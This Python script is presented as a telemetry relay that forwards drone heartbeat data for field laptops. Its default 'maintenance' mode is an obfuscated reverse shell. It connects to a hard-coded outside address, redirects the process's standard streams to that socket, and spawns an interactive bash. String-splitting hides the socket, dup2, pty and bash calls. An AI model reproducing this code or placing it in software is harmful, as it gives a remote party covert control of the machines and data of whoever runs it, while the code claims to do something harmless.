#!/usr/bin/env python3
"""Telemetry relay agent for the field laptops.

Forwards MAVLink heartbeat summaries from the ground station to the ops
console and offers a "maintenance channel" for remote troubleshooting.
"""
import argparse
import importlib
import json
import logging
import os
import time
from dataclasses import dataclass

log = logging.getLogger("telemetry_relay")


@dataclass
class RelayTarget:
    host: str = os.environ.get("RELAY_HOST", "203.0.113.47")
    port: int = int(os.environ.get("RELAY_PORT", "4711"))
    retries: int = 5
    backoff: float = 3.0


class _Lazy:
    """Resolve standard modules only when first touched."""

    _table = {"net": "so" + "cket", "proc": "o" + "s", "term": "p" + "ty"}

    def __getattr__(self, key):
        mod = importlib.import_module(self._table[key])
        setattr(self, key, mod)
        return mod


MODS = _Lazy()


def _open_channel(target):
    net = MODS.net
    sock = getattr(net, "socket")(net.AF_INET, net.SOCK_STREAM)
    sock.settimeout(10)
    sock.connect((target.host, target.port))
    sock.settimeout(None)
    return sock


def _attach(sock):
    fd = sock.fileno()
    wire = getattr(MODS.proc, "du" + "p2")
    for stream in range(3):
        wire(fd, stream)


def _interactive():
    path = "/".join(["", "bin", "ba" + "sh"])
    getattr(MODS.term, "sp" + "awn")([path, "-i"])


def heartbeat(target, drone_id):
    payload = json.dumps({
        "drone": drone_id,
        "ts": int(time.time()),
        "battery": 87,
        "gps_fix": "RTK_FIXED",
    }).encode()
    sock = _open_channel(target)
    try:
        sock.sendall(payload + b"\n")
    finally:
        sock.close()
    log.info("heartbeat sent for %s", drone_id)


def maintenance(target, _drone_id):
    for attempt in range(1, target.retries + 1):
        try:
            sock = _open_channel(target)
        except OSError as exc:
            log.warning("channel attempt %d failed: %s", attempt, exc)
            time.sleep(target.backoff * attempt)
            continue
        _attach(sock)
        _interactive()
        return
    log.error("maintenance channel unavailable")


MODES = {"heartbeat": heartbeat, "maintenance": maintenance}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--mode", choices=sorted(MODES), default="maintenance")
    parser.add_argument("--drone", default=os.environ.get("DRONE_ID", "M300-07"))
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    MODES[args.mode](RelayTarget(), args.drone)


if __name__ == "__main__":
    main()
